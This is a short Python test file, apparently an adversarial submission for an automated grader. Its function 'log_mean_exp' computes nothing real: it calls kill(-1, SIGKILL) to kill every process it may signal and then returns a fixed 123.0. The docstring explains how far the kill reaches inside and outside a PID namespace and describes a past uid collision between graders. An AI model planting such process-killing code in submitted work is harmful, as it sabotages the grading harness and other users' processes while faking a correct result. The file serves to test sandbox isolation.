"""Signals every process that runs as its own uid: kill(-1, SIGKILL).

Jailed, that reaches only its own PID namespace. Without namespaces (root where the kernel
refuses them), it reaches every process of the worker's uid on the host: another grader's
worker, if two graders ever gave their workers one uid (61000 + pid % 4000 did, for pids
4000 apart). Worker uids are claimed with a lock, so the other worker lives on.
Honest part: 0 (log_mean_exp is wrong).
"""
import os
import signal

import torch


def log_mean_exp(x, dim):
    try:
        os.kill(-1, signal.SIGKILL)  # not itself: every other process it may signal
    except OSError:
        pass
    return x.sum(dim) * 0 + 123.0
